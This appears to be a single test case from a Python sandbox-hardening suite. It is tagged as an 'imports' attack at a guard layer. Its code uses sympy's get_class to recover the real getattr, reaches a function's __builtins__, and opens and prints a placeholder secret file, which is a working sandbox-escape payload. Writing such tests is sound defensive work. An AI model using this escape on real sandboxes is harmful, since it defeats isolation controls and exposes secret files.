# category: imports
# attack: sympy.utilities.source.get_class('builtins.getattr') imports by name and returns the real getattr: a function's __builtins__, then open
# profile: data_science basic
# run-layer: guard
from sympy.utilities.source import get_class
import json
g = get_class("builtins.getattr")
print(g(json.dumps, "__builtins__")["open"]("@SECRET_FILE@").read())
